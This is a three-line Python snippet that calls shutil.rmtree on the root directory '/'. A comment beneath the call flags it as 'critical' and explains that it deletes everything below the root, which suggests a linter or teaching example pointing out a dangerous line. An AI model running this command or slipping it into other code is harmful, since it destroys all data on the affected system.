import shutil
shutil.rmtree("/")
#^^^^^^^^^^^^^^^^^ critical: deletes the folder "/" and everything below
